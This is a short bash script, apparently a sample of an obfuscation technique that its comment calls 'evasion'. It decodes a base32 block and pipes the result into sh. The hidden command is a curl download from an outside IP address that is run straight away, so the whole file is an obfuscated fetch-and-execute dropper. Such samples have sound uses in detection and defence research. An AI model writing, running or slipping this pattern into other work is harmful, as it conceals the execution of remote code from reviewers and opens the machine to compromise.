#!/bin/bash
# evasion: a base32 block in a here-document is decoded and piped into sh
base32 -d <<'B32' | sh
MN2XE3BAFVTHGU2MEBUHI5DQHIXS6MRQGMXDALRRGEZS4OJUF54CA7BAONUAU===
B32
